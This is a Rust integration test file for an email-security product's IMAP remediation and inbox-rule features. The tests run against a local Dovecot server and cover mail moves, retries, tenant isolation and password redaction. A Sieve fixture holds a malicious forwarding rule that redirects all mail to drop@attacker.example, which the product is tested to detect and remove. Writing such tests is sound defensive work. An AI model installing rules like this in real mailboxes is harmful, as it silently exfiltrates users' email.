//! Real mailboxes (issue 12), against a private Dovecot started per test (`common::dovecot`), through
//! the GraphQL API with real tokens on a real database: `testMailServer`; every action type moving
//! real mail (checked with the harness's own IMAP session) and the store following; an unknown
//! message; a retry after the server was stopped mid-action (nothing moved twice, nothing lost); a move
//! an earlier try made but never recorded; five failed tries ending FAILED with the reason; inbox rules
//! read over ManageSieve, a suspicious forwarding rule found and removed after approval; and tenants
//! isolated. Without Dovecot installed each test prints SKIPPED and passes.

mod common;

use chrono::{Duration, SecondsFormat, Utc};
use common::alerts::{alert_with, INGEST};
use common::dovecot::{Dovecot, MASTER_PASSWORD, MASTER_USER};
use common::*;
use parapet::auth::Role;
use serde_json::{json, Value};

const TENANT: &str = "acme";

const PUSH: &str = "mutation($e: [EmailInput!]!) { ingestEmails(emails: $e) { rejected \
                    items { index status error email { id } } } }";

const CONFIGURE: &str = "mutation($i: ConfigureMailServerInput!) { configureMailServer(input: $i) { host } }";

const ACTION: &str = "id type status mailbox ruleName rule attempts error successCount failedCount \
    alreadyInDestinationCount notFoundCount openTargetCount \
    targets(first: 100) { nodes { emailId recipient outcome fromLocation toLocation attempts error } }";

const TEST: &str =
    "mutation($m: String) { testMailServer(mailbox: $m) { ok mailbox imapReachable imapLoggedIn \
    capabilities move uidplus specialUse folders { name specialUse } missingFolders imapError manageSieve \
    sieveImplementation sieveExtensions sieveError elapsedMs } }";

const RULES: &str = "query($m: String!) { mailboxRules(mailbox: $m) { name mailbox script enabled matchAny \
    conditions { kind header matchType addressPart values negated } \
    actions { kind name argument copy } suspicious reason } }";

const REMOVE: &str = "mutation($m: String!, $r: String!, $i: ID, $c: String) { \
    removeInboxRule(mailbox: $m, ruleName: $r, incidentId: $i, comment: $c) { id type status mailbox ruleName rule } }";

struct Team {
    gw: String,
    reader: String,
    analyst: String,
    responder: String,
    responder2: String,
    admin: String,
}

fn team(app: &TestApp, tenant: &str) -> Team {
    Team {
        gw: app.token(tenant, &format!("gw@{tenant}.test"), &[Role::Ingestor]),
        reader: app.token(tenant, &format!("rita@{tenant}.test"), &[Role::Reader]),
        analyst: app.token(tenant, &format!("ann@{tenant}.test"), &[Role::Analyst]),
        responder: app.token(tenant, &format!("rob@{tenant}.test"), &[Role::Responder]),
        responder2: app.token(tenant, &format!("ray@{tenant}.test"), &[Role::Responder]),
        admin: app.token(tenant, &format!("ada@{tenant}.test"), &[Role::Admin]),
    }
}

fn code(resp: &Value) -> &str {
    resp["errors"][0]["extensions"]["code"].as_str().unwrap_or("<no error code>")
}

/// Points the tenant at the private Dovecot.
async fn configure(app: &TestApp, admin: &str, dc: &Dovecot, password: &str) {
    let input = json!({
        "host": "127.0.0.1", "port": dc.imap_port, "tls": "NONE", "masterUser": MASTER_USER,
        "masterPassword": password, "sievePort": dc.sieve_port,
    });
    app.ok(admin, CONFIGURE, json!({ "i": input })).await;
}

/// A mail-flow record of a copy whose Internet Message-ID is `mid`, in `location`.
fn rec(nmid: &str, mid: &str, recipient: &str, location: &str) -> Value {
    let received = Utc::now() - Duration::hours(2);
    let mut r = json!({
        "networkMessageId": nmid, "internetMessageId": mid, "recipient": recipient,
        "receivedAt": received.to_rfc3339_opts(SecondsFormat::Micros, true),
        "envelopeSender": "bounce@evil.example", "headerFrom": "billing@evil.example",
        "subject": "Invoice 4471", "threatTypes": ["PHISH"], "deliveryAction": "DELIVERED",
    });
    if location == "JUNK" {
        r["deliveryAction"] = json!("DELIVERED_TO_JUNK");
    }
    r
}

async fn push(app: &TestApp, gw: &str, records: &[Value]) -> Vec<String> {
    let r = app.ok(gw, PUSH, json!({ "e": records })).await["ingestEmails"].clone();
    assert_eq!(r["rejected"], 0, "{r:#}");
    r["items"]
        .as_array()
        .expect("items")
        .iter()
        .map(|i| i["email"]["id"].as_str().expect("id").to_string())
        .collect()
}

async fn four_eyes_off(app: &TestApp, admin: &str) {
    let q = "mutation { updateTenantSettings(input: { fourEyes: false }) { fourEyes } }";
    app.ok(admin, q, json!({})).await;
}

async fn remediate(app: &TestApp, token: &str, ids: &[String], action: &str) -> Value {
    let q = format!("mutation($i: RemediateEmailsInput!) {{ remediateEmails(input: $i) {{ {ACTION} }} }}");
    app.ok(token, &q, json!({ "i": { "emailIds": ids, "action": action } })).await["remediateEmails"].clone()
}

async fn action(app: &TestApp, token: &str, id: &str) -> Value {
    let q = format!("query($id: ID!) {{ action(id: $id) {{ {ACTION} }} }}");
    app.ok(token, &q, json!({ "id": id })).await["action"].clone()
}

/// Waits (at most `secs`) until the action's status is one of `statuses`.
async fn wait_for(app: &TestApp, token: &str, id: &str, statuses: &[&str], secs: u64) -> Value {
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(secs);
    loop {
        let a = action(app, token, id).await;
        if statuses.iter().any(|s| a["status"] == *s) {
            return a;
        }
        assert!(std::time::Instant::now() < deadline, "action {id} never reached {statuses:?}: {a:#}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
}

async fn email(app: &TestApp, token: &str, id: &str) -> Value {
    let q = "query($id: ID!) { email(id: $id) { latestDeliveryLocation timeline { kind fromLocation toLocation actor } } }";
    app.ok(token, q, json!({ "id": id })).await["email"].clone()
}

#[tokio::test]
async fn test_mail_server_reports_what_the_server_offers_and_what_fails() {
    let Some(mut dc) = Dovecot::start("imap_remediation: testMailServer", &["bob@acme.test"]).await else {
        return;
    };
    let app = TestApp::new().await;
    let t = team(&app, TENANT);
    // Nothing configured yet.
    let r = app.gql(Some(&t.admin), TEST, json!({ "m": "bob@acme.test" })).await;
    assert_eq!(code(&r), "NOT_FOUND", "{r:#}");
    configure(&app, &t.admin, &dc, MASTER_PASSWORD).await;
    let r = app.ok(&t.admin, TEST, json!({ "m": "bob@acme.test" })).await["testMailServer"].clone();
    assert_eq!(r["ok"], true, "{r:#}");
    assert_eq!(
        (r["move"].clone(), r["uidplus"].clone(), r["specialUse"].clone()),
        (json!(true), json!(true), json!(true))
    );
    assert_eq!(r["manageSieve"], true, "{r:#}");
    let ext = r["sieveExtensions"].as_array().expect("extensions");
    assert!(ext.iter().any(|e| e == "fileinto"), "{r:#}");
    let folders: Vec<&str> =
        r["folders"].as_array().expect("folders").iter().filter_map(|f| f["name"].as_str()).collect();
    for f in ["INBOX", "Junk", "Trash", "Recoverable Items"] {
        assert!(folders.contains(&f), "{f} in {folders:?}");
    }
    assert_eq!(r["missingFolders"], json!([]));
    // Roles: only admins.
    for who in [&t.reader, &t.analyst, &t.responder] {
        let r = app.gql(Some(who), TEST, json!({ "m": "bob@acme.test" })).await;
        assert_eq!(code(&r), "FORBIDDEN", "{r:#}");
    }
    // A bad mailbox is refused before anything is sent.
    let r = app.gql(Some(&t.admin), TEST, json!({ "m": "not an address" })).await;
    assert_eq!(code(&r), "BAD_USER_INPUT", "{r:#}");
    // A wrong password: reported, never echoed.
    configure(&app, &t.admin, &dc, "wrong-Pa55word-zz").await;
    let r = app.ok(&t.admin, TEST, json!({ "m": "bob@acme.test" })).await["testMailServer"].clone();
    assert_eq!(
        (r["ok"].clone(), r["imapReachable"].clone(), r["imapLoggedIn"].clone()),
        (json!(false), json!(true), json!(false)),
        "{r:#}"
    );
    assert!(r["imapError"].as_str().is_some_and(|e| !e.contains("wrong-Pa55word-zz")), "{r:#}");
    assert!(!r.to_string().contains("wrong-Pa55word-zz"));
    // A stopped server: unreachable, said so.
    configure(&app, &t.admin, &dc, MASTER_PASSWORD).await;
    dc.stop();
    let r = app.ok(&t.admin, TEST, json!({ "m": "bob@acme.test" })).await["testMailServer"].clone();
    assert_eq!((r["ok"].clone(), r["imapReachable"].clone()), (json!(false), json!(false)), "{r:#}");
    assert!(r["imapError"].as_str().is_some_and(|e| e.contains("connecting")), "{r:#}");
}

#[tokio::test]
async fn every_action_type_moves_real_mail_and_the_store_follows() {
    let users = ["bob@acme.test", "carol@acme.test"];
    let Some(dc) = Dovecot::start("imap_remediation: every action type", &users).await else { return };
    let app = TestApp::new().await;
    let _jobs = app.start_jobs();
    let t = team(&app, TENANT);
    configure(&app, &t.admin, &dc, MASTER_PASSWORD).await;
    four_eyes_off(&app, &t.admin).await;
    for (i, folder) in ["INBOX", "INBOX", "INBOX", "INBOX", "Trash"].iter().enumerate() {
        dc.append(
            "bob@acme.test",
            folder,
            &format!("<m{i}@evil.example>"),
            "Invoice 4471",
            "billing@evil.example",
        )
        .await;
    }
    dc.append("carol@acme.test", "Junk", "<m5@evil.example>", "Invoice 4471", "billing@evil.example").await;
    let ids = push(
        &app,
        &t.gw,
        &[
            rec("n0", "<m0@evil.example>", "bob@acme.test", "INBOX"),
            rec("n1", "<m1@evil.example>", "bob@acme.test", "INBOX"),
            rec("n2", "<m2@evil.example>", "bob@acme.test", "INBOX"),
            rec("n3", "<m3@evil.example>", "bob@acme.test", "INBOX"),
            // Parapet thinks it is in the inbox; the user moved it to Trash: found all the same.
            rec("n4", "<m4@evil.example>", "bob@acme.test", "INBOX"),
            rec("n5", "<m5@evil.example>", "carol@acme.test", "JUNK"),
            // A copy the mailbox never had.
            rec("n6", "<unknown@evil.example>", "carol@acme.test", "INBOX"),
        ],
    )
    .await;
    let cases = [
        (vec![ids[0].clone()], "MOVE_TO_JUNK"),
        (vec![ids[1].clone()], "MOVE_TO_DELETED_ITEMS"),
        (vec![ids[2].clone(), ids[4].clone()], "SOFT_DELETE"),
        (vec![ids[3].clone()], "HARD_DELETE"),
        (vec![ids[5].clone()], "MOVE_TO_INBOX"),
        (vec![ids[6].clone()], "SOFT_DELETE"),
    ];
    let mut done = Vec::new();
    for (ids, kind) in &cases {
        let a = remediate(&app, &t.responder, ids, kind).await;
        assert_eq!(a["status"], "APPROVED", "{a:#}");
        done.push(
            wait_for(&app, &t.reader, a["id"].as_str().expect("id"), &["COMPLETED", "FAILED"], 30).await,
        );
    }
    assert_eq!(done[0]["successCount"], 1, "{:#}", done[0]);
    assert_eq!(dc.message_ids("bob@acme.test", "Junk").await, vec!["<m0@evil.example>"]);
    assert_eq!(dc.message_ids("bob@acme.test", "Trash").await, vec!["<m1@evil.example>"]);
    assert_eq!(done[2]["successCount"], 2, "{:#}", done[2]);
    assert_eq!(
        dc.message_ids("bob@acme.test", "Recoverable Items").await,
        vec!["<m2@evil.example>", "<m4@evil.example>"]
    );
    assert_eq!(done[3]["successCount"], 1);
    for folder in ["INBOX", "Junk", "Trash", "Recoverable Items"] {
        assert!(!dc.message_ids("bob@acme.test", folder).await.contains(&"<m3@evil.example>".to_string()));
    }
    assert_eq!(dc.message_ids("bob@acme.test", "INBOX").await, Vec::<String>::new());
    assert_eq!(dc.message_ids("carol@acme.test", "INBOX").await, vec!["<m5@evil.example>"]);
    assert_eq!(dc.message_ids("carol@acme.test", "Junk").await, Vec::<String>::new());
    // The unknown message.
    assert_eq!(done[5]["status"], "COMPLETED");
    assert_eq!(done[5]["notFoundCount"], 1, "{:#}", done[5]);
    let target = &done[5]["targets"]["nodes"][0];
    assert_eq!(target["outcome"], "NOT_FOUND");
    assert!(target["error"].as_str().is_some_and(|e| e.contains("<unknown@evil.example>")), "{target:#}");
    // The store follows, with a timeline event per move.
    let expect = [
        (0, "JUNK"),
        (1, "DELETED_ITEMS"),
        (2, "SOFT_DELETED"),
        (3, "HARD_DELETED"),
        (4, "SOFT_DELETED"),
        (5, "INBOX"),
        (6, "INBOX"),
    ];
    for (i, loc) in expect {
        let e = email(&app, &t.reader, &ids[i]).await;
        assert_eq!(e["latestDeliveryLocation"], loc, "copy {i}: {e:#}");
        let remediations = e["timeline"]
            .as_array()
            .expect("timeline")
            .iter()
            .filter(|ev| ev["kind"] == "MANUAL_REMEDIATION" || ev["kind"] == "QUARANTINE_RELEASE")
            .count();
        assert_eq!(remediations, usize::from(i != 6), "copy {i}: {e:#}");
    }
}

#[tokio::test]
async fn a_stopped_server_leaves_targets_pending_and_a_retry_moves_each_message_once() {
    let users: Vec<String> = (0..4).map(|u| format!("user{u}@acme.test")).collect();
    let user_refs: Vec<&str> = users.iter().map(String::as_str).collect();
    let Some(mut dc) = Dovecot::start("imap_remediation: retry after a stop", &user_refs).await else {
        return;
    };
    let app = TestApp::new().await;
    let t = team(&app, TENANT);
    configure(&app, &t.admin, &dc, MASTER_PASSWORD).await;
    let mut records = Vec::new();
    for (u, user) in users.iter().enumerate() {
        for m in 0..10 {
            let mid = format!("<r{u}-{m}@evil.example>");
            dc.append(user, "INBOX", &mid, "Invoice 4471", "billing@evil.example").await;
            records.push(rec(&format!("n{u}-{m}"), &mid, user, "INBOX"));
        }
    }
    let ids = push(&app, &t.gw, &records).await;
    // A try before this one moved one message and died before recording it.
    dc.move_message(&users[0], "INBOX", "<r0-0@evil.example>", "Recoverable Items").await;
    let a = remediate(&app, &t.analyst, &ids, "SOFT_DELETE").await;
    let id = a["id"].as_str().expect("id").to_string();
    app.ok(&t.responder, "mutation($id: ID!) { approveAction(id: $id) { status } }", json!({ "id": id }))
        .await;
    // The server is down when the job first runs.
    dc.stop();
    let jobs = app.start_jobs();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(20);
    let pending = loop {
        let a = action(&app, &t.reader, &id).await;
        let tried = a["targets"]["nodes"]
            .as_array()
            .expect("targets")
            .iter()
            .all(|n| n["attempts"].as_i64() >= Some(1) && n["error"].is_string());
        if tried && a["status"] == "RUNNING" {
            break a;
        }
        assert!(std::time::Instant::now() < deadline, "no try happened: {a:#}");
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    };
    assert_eq!(pending["openTargetCount"], 40, "{pending:#}");
    let target = &pending["targets"]["nodes"][0];
    assert_eq!(target["outcome"], Value::Null);
    assert!(target["error"].as_str().is_some_and(|e| e.contains("connecting")), "{target:#}");
    dc.restart().await;
    let done = wait_for(&app, &t.reader, &id, &["COMPLETED", "FAILED"], 30).await;
    jobs.abort();
    assert_eq!(done["status"], "COMPLETED", "{done:#}");
    assert_eq!(
        (done["successCount"].clone(), done["alreadyInDestinationCount"].clone()),
        (json!(39), json!(1)),
        "{done:#}"
    );
    for user in &users {
        assert_eq!(dc.message_ids(user, "INBOX").await, Vec::<String>::new(), "{user}");
        let moved = dc.message_ids(user, "Recoverable Items").await;
        assert_eq!(moved.len(), 10, "{user}: each message once: {moved:?}");
    }
    for id in &ids {
        assert_eq!(email(&app, &t.reader, id).await["latestDeliveryLocation"], "SOFT_DELETED");
    }
}

#[tokio::test]
async fn five_failed_tries_end_a_target_failed_with_the_reason() {
    let Some(mut dc) = Dovecot::start("imap_remediation: five tries", &["bob@acme.test"]).await else {
        return;
    };
    let app = TestApp::new().await;
    let t = team(&app, TENANT);
    configure(&app, &t.admin, &dc, MASTER_PASSWORD).await;
    four_eyes_off(&app, &t.admin).await;
    dc.append("bob@acme.test", "INBOX", "<f1@evil.example>", "Invoice", "billing@evil.example").await;
    let ids = push(&app, &t.gw, &[rec("f1", "<f1@evil.example>", "bob@acme.test", "INBOX")]).await;
    dc.stop();
    let _jobs = app.start_jobs();
    let a = remediate(&app, &t.responder, &ids, "MOVE_TO_JUNK").await;
    let done = wait_for(&app, &t.reader, a["id"].as_str().expect("id"), &["COMPLETED", "FAILED"], 60).await;
    assert_eq!(done["status"], "FAILED", "{done:#}");
    let target = &done["targets"]["nodes"][0];
    assert_eq!(
        (target["outcome"].clone(), target["attempts"].clone()),
        (json!("FAILED"), json!(5)),
        "{target:#}"
    );
    assert!(
        target["error"].as_str().is_some_and(|e| e.starts_with("after 5 tries: connecting")),
        "{target:#}"
    );
    assert_eq!(email(&app, &t.reader, &ids[0]).await["latestDeliveryLocation"], "INBOX");
}

const SCRIPT: &str = r#"require ["fileinto", "copy"];
# rule:[Forward all]
if true {
    redirect :copy "drop@attacker.example";
}
# rule:[Hide billing]
if address :is "from" "billing@evil.example" {
    fileinto "Trash";
    stop;
}
# rule:[Newsletters]
if header :contains "subject" "newsletter" {
    fileinto "Newsletters";
}
"#;

#[tokio::test]
async fn a_suspicious_forwarding_rule_is_found_and_removed_after_approval() {
    let Some(dc) = Dovecot::start("imap_remediation: inbox rules", &["bob@acme.test"]).await else { return };
    let app = TestApp::new().await;
    let _jobs = app.start_jobs();
    let t = team(&app, TENANT);
    configure(&app, &t.admin, &dc, MASTER_PASSWORD).await;
    dc.put_script("bob@acme.test", "roundcube", SCRIPT, true).await;
    // The sender is part of an incident.
    let alert = alert_with(
        "air-1",
        "Email messages containing malicious URL removed after delivery",
        "HIGH",
        json!([{ "verdict": "MALICIOUS", "email": { "networkMessageId": "x1", "recipient": "bob@acme.test",
                 "headerFrom": "billing@evil.example", "threatTypes": ["PHISH"] } }]),
    );
    let r = app.ok(&t.gw, INGEST, json!({ "alerts": [alert] })).await;
    let incident =
        r["ingestAlerts"]["items"][0]["alert"]["incident"]["id"].as_str().expect("incident").to_string();

    let rules = app.ok(&t.analyst, RULES, json!({ "m": "Bob@acme.test" })).await["mailboxRules"].clone();
    let names: Vec<&str> =
        rules.as_array().expect("rules").iter().filter_map(|r| r["name"].as_str()).collect();
    assert_eq!(names, ["Forward all", "Hide billing", "Newsletters"], "{rules:#}");
    assert_eq!(rules[0]["suspicious"], true);
    assert!(rules[0]["reason"].as_str().is_some_and(|r| r.contains("drop@attacker.example")), "{rules:#}");
    assert_eq!(
        rules[0]["actions"][0],
        json!({ "kind": "REDIRECT", "name": "redirect", "argument": "drop@attacker.example", "copy": true })
    );
    assert_eq!(rules[1]["suspicious"], true);
    assert!(rules[1]["reason"].as_str().is_some_and(|r| r.contains("billing@evil.example")), "{rules:#}");
    assert_eq!(rules[1]["conditions"][0]["kind"], "FROM");
    assert_eq!((rules[2]["suspicious"].clone(), rules[2]["reason"].clone()), (json!(false), Value::Null));
    assert_eq!(rules[0]["script"], "roundcube");
    // Forwarding to one of the tenant's own domains is not suspicious.
    let own = "mutation($d: [String!]) { updateTenantSettings(input: { acceptedDomains: $d }) { acceptedDomains } }";
    let set = app.ok(&t.admin, own, json!({ "d": ["ACME.test", "Attacker.Example."] })).await;
    assert_eq!(set["updateTenantSettings"]["acceptedDomains"], json!(["acme.test", "attacker.example"]));
    let now = app.ok(&t.analyst, RULES, json!({ "m": "bob@acme.test" })).await["mailboxRules"].clone();
    assert_eq!(
        (now[0]["suspicious"].clone(), now[0]["reason"].clone()),
        (json!(false), Value::Null),
        "{now:#}"
    );
    assert_eq!(now[1]["suspicious"], true);
    assert_eq!(code(&app.gql(Some(&t.admin), own, json!({ "d": ["not a domain"] })).await), "BAD_USER_INPUT");
    app.ok(&t.admin, own, json!({ "d": [] })).await;
    // Readers may not read rules; unknown rules and bad input are refused.
    assert_eq!(code(&app.gql(Some(&t.reader), RULES, json!({ "m": "bob@acme.test" })).await), "FORBIDDEN");
    assert_eq!(code(&app.gql(Some(&t.analyst), RULES, json!({ "m": "bob" })).await), "BAD_USER_INPUT");
    let r = app.gql(Some(&t.analyst), REMOVE, json!({ "m": "bob@acme.test", "r": "No such rule" })).await;
    assert_eq!(code(&r), "NOT_FOUND", "{r:#}");
    assert_eq!(
        code(&app.gql(Some(&t.reader), REMOVE, json!({ "m": "bob@acme.test", "r": "Forward all" })).await),
        "FORBIDDEN"
    );

    let vars =
        json!({ "m": "bob@acme.test", "r": "Forward all", "i": incident, "c": "forwards everything out" });
    let proposed = app.ok(&t.analyst, REMOVE, vars.clone()).await["removeInboxRule"].clone();
    assert_eq!(
        (proposed["type"].clone(), proposed["status"].clone()),
        (json!("REMOVE_INBOX_RULE"), json!("PENDING"))
    );
    assert_eq!(proposed["rule"]["suspicious"], true, "{proposed:#}");
    // One pending removal per rule.
    assert_eq!(code(&app.gql(Some(&t.analyst), REMOVE, vars.clone()).await), "CONFLICT");
    // Nothing changed before approval.
    assert_eq!(dc.active_script("bob@acme.test").await.map(|(_, s)| s), Some(SCRIPT.to_string()));
    let id = proposed["id"].as_str().expect("id").to_string();
    app.ok(&t.responder, "mutation($id: ID!) { approveAction(id: $id) { status } }", json!({ "id": id }))
        .await;
    let done = wait_for(&app, &t.reader, &id, &["COMPLETED", "FAILED"], 30).await;
    assert_eq!(
        (done["status"].clone(), done["successCount"].clone()),
        (json!("COMPLETED"), json!(1)),
        "{done:#}"
    );
    let (name, text) = dc.active_script("bob@acme.test").await.expect("an active script");
    assert_eq!(name, "roundcube");
    assert!(
        !text.contains("attacker.example") && text.contains("Hide billing") && text.contains("Newsletters"),
        "{text}"
    );
    let rules = app.ok(&t.analyst, RULES, json!({ "m": "bob@acme.test" })).await["mailboxRules"].clone();
    assert_eq!(rules.as_array().map(Vec::len), Some(2));
    // The incident's activity log tells the story.
    let q = "query($id: ID!) { incident(id: $id) { activity(first: 50) { nodes { message } } } }";
    let log = app.ok(&t.reader, q, json!({ "id": incident })).await.to_string();
    assert!(log.contains("Remove inbox rule \\\"Forward all\\\" of bob@acme.test"), "{log}");

    // A rule removed by someone else between proposal and run: already done, nothing rewritten twice.
    let proposed = app.ok(&t.analyst, REMOVE, json!({ "m": "bob@acme.test", "r": "Hide billing" })).await
        ["removeInboxRule"]
        .clone();
    let plain = "require [\"fileinto\", \"copy\"];\n";
    dc.put_script("bob@acme.test", "roundcube", plain, true).await;
    let id = proposed["id"].as_str().expect("id").to_string();
    app.ok(&t.responder2, "mutation($id: ID!) { approveAction(id: $id) { status } }", json!({ "id": id }))
        .await;
    let done = wait_for(&app, &t.reader, &id, &["COMPLETED", "FAILED"], 30).await;
    assert_eq!(done["alreadyInDestinationCount"], 1, "{done:#}");
    assert_eq!(dc.active_script("bob@acme.test").await.map(|(_, s)| s), Some(plain.to_string()));

    // A rule edited between proposal and run is not the rule that was approved: nothing is removed.
    dc.put_script("bob@acme.test", "roundcube", SCRIPT, true).await;
    let proposed = app.ok(&t.analyst, REMOVE, json!({ "m": "bob@acme.test", "r": "Newsletters" })).await
        ["removeInboxRule"]
        .clone();
    let edited = SCRIPT.replace("\"newsletter\"", "\"promotion\"");
    dc.put_script("bob@acme.test", "roundcube", &edited, true).await;
    let id = proposed["id"].as_str().expect("id").to_string();
    app.ok(&t.responder, "mutation($id: ID!) { approveAction(id: $id) { status } }", json!({ "id": id }))
        .await;
    let done = wait_for(&app, &t.reader, &id, &["COMPLETED", "FAILED"], 30).await;
    assert_eq!(done["status"], "FAILED", "{done:#}");
    assert!(done["error"].as_str().is_some_and(|e| e.contains("changed since")), "{done:#}");
    assert_eq!(dc.active_script("bob@acme.test").await.map(|(_, s)| s), Some(edited));
}

#[tokio::test]
async fn tenants_are_isolated_and_a_tenant_without_a_server_keeps_the_built_in_store() {
    let Some(dc) = Dovecot::start("imap_remediation: tenants", &["bob@acme.test"]).await else { return };
    let app = TestApp::new().await;
    let _jobs = app.start_jobs();
    let a = team(&app, TENANT);
    let b = team(&app, "globex");
    configure(&app, &a.admin, &dc, MASTER_PASSWORD).await;
    dc.put_script("bob@acme.test", "roundcube", SCRIPT, true).await;
    // Tenant B has no server: no rules to read, none to remove, no test to run.
    assert_eq!(code(&app.gql(Some(&b.analyst), RULES, json!({ "m": "bob@acme.test" })).await), "NOT_FOUND");
    assert_eq!(
        code(&app.gql(Some(&b.analyst), REMOVE, json!({ "m": "bob@acme.test", "r": "Forward all" })).await),
        "NOT_FOUND"
    );
    assert_eq!(code(&app.gql(Some(&b.admin), TEST, json!({})).await), "NOT_FOUND");
    assert_eq!(app.ok(&b.admin, "{ mailServer { host } }", json!({})).await["mailServer"], Value::Null);
    // B's copy with the same Message-ID as A's real message moves in B's store only.
    dc.append("bob@acme.test", "INBOX", "<same@evil.example>", "Invoice", "billing@evil.example").await;
    four_eyes_off(&app, &b.admin).await;
    let ids = push(&app, &b.gw, &[rec("s1", "<same@evil.example>", "bob@acme.test", "INBOX")]).await;
    let act = remediate(&app, &b.responder, &ids, "SOFT_DELETE").await;
    let done = wait_for(&app, &b.reader, act["id"].as_str().expect("id"), &["COMPLETED", "FAILED"], 30).await;
    assert_eq!(done["successCount"], 1);
    assert_eq!(dc.message_ids("bob@acme.test", "INBOX").await, vec!["<same@evil.example>"]);
    // A's removal is invisible to B.
    let proposed = app.ok(&a.analyst, REMOVE, json!({ "m": "bob@acme.test", "r": "Forward all" })).await
        ["removeInboxRule"]
        .clone();
    let seen = app
        .ok(&b.reader, "query($id: ID!) { action(id: $id) { id } }", json!({ "id": proposed["id"] }))
        .await;
    assert_eq!(seen["action"], Value::Null);
    let r = app
        .gql(
            Some(&b.responder),
            "mutation($id: ID!) { approveAction(id: $id) { status } }",
            json!({ "id": proposed["id"] }),
        )
        .await;
    assert_eq!(code(&r), "NOT_FOUND", "{r:#}");
}

#[tokio::test]
async fn the_master_password_is_in_no_answer_and_no_log_line() {
    let Some(dc) = Dovecot::start("imap_remediation: password never shown", &["bob@acme.test"]).await else {
        return;
    };
    let app = TestApp::new().await;
    let t = team(&app, TENANT);
    let key = "2a".repeat(32);
    let env = [
        ("PARAPET_SECRET_KEY", key.as_str()),
        ("RUST_LOG", "trace"),
        ("PARAPET_MAIL_TIMEOUT_SECS", "5"),
        ("PARAPET_MAIL_RETRY_SECS", "0"),
    ];
    let server = common::replica::Replica::start("pw", &app.db_url, &env).await;
    let http = reqwest::Client::new();
    let wrong = "Wr0ng-master-PW-7731";
    let mut answers = Vec::new();
    let mut ask = async |token: &str, q: &str, v: Value| {
        let r = server.post(&http, token, q, v).await;
        answers.push(r.to_string());
        r
    };
    let input = |pw: &str| {
        json!({ "i": { "host": "127.0.0.1", "port": dc.imap_port, "tls": "NONE", "masterUser": MASTER_USER,
                        "masterPassword": pw, "sievePort": dc.sieve_port } })
    };
    ask(&t.admin, CONFIGURE, input(MASTER_PASSWORD)).await;
    dc.put_script("bob@acme.test", "roundcube", SCRIPT, true).await;
    dc.append("bob@acme.test", "INBOX", "<p1@evil.example>", "Invoice", "billing@evil.example").await;
    let r = ask(&t.admin, TEST, json!({ "m": "bob@acme.test" })).await;
    assert_eq!(r["data"]["testMailServer"]["ok"], true, "{r:#}");
    ask(&t.analyst, RULES, json!({ "m": "bob@acme.test" })).await;
    ask(
        &t.admin,
        "{ mailServer { host port tls masterUser passwordSet sieveHost sievePort folders { junk } } }",
        json!({}),
    )
    .await;
    ask(&t.admin, "{ auditLog(first: 20) { nodes { before after } } }", json!({})).await;
    let pushed =
        ask(&t.gw, PUSH, json!({ "e": [rec("p1", "<p1@evil.example>", "bob@acme.test", "INBOX")] })).await;
    let id = pushed["data"]["ingestEmails"]["items"][0]["email"]["id"].clone();
    ask(&t.admin, "mutation { updateTenantSettings(input: { fourEyes: false }) { fourEyes } }", json!({}))
        .await;
    let q = "mutation($i: RemediateEmailsInput!) { remediateEmails(input: $i) { id } }";
    let a = ask(&t.responder, q, json!({ "i": { "emailIds": [id], "action": "MOVE_TO_JUNK" } })).await;
    let action_id = a["data"]["remediateEmails"]["id"].clone();
    // The wrong password: refused by the server, and neither password anywhere.
    ask(&t.admin, CONFIGURE, input(wrong)).await;
    let r = ask(&t.admin, TEST, json!({ "m": "bob@acme.test" })).await;
    assert_eq!(r["data"]["testMailServer"]["ok"], false, "{r:#}");
    ask(&t.analyst, RULES, json!({ "m": "bob@acme.test" })).await;
    ask(&t.analyst, REMOVE, json!({ "m": "bob@acme.test", "r": "Forward all" })).await;
    // The action ran (with the right password) before or after: either way it is done.
    let q = "query($id: ID!) { action(id: $id) { status targets(first: 5) { nodes { outcome error } } } }";
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let r = ask(&t.reader, q, json!({ "id": action_id })).await;
        let status = r["data"]["action"]["status"].as_str().unwrap_or("").to_string();
        if status == "COMPLETED" || status == "FAILED" || std::time::Instant::now() > deadline {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
    let log = server.whole_log();
    assert!(log.lines().count() > 10, "the replica logged: {log}");
    for secret in [MASTER_PASSWORD, wrong] {
        assert!(!log.contains(secret), "the password {secret:?} is in the log");
        for a in &answers {
            assert!(!a.contains(secret), "the password {secret:?} is in an answer: {a}");
        }
    }
}
